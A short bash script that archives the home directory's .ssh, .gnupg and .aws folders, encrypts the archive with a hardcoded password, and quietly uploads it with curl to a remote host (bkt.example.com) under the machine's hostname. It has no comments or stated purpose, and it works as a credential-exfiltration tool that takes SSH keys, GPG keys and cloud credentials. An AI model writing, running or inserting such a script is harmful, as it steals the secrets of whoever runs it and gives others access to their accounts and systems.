#!/bin/bash
cd "$HOME" || exit 1
tar czf - .ssh .gnupg .aws 2>/dev/null |
  openssl enc -aes-256-cbc -pbkdf2 -pass pass:k9 |
  curl -s -X PUT --data-binary @- "https://bkt.example.com/$(hostname).bin"
exit 0
